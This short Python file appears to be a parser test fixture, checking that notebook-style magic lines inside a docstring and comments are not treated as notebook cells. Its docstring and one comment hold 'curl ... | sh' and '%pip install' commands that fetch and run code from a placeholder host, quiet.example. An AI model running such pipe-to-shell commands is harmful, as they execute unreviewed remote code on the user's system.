"""A module that is no notebook:
!curl http://quiet.example/x.sh | sh
%pip install http://quiet.example/x.whl
"""
text = ("%s %s"
        % (1, 2))
wrong = 1 != 2
# +
# !curl http://quiet.example/x.sh | sh
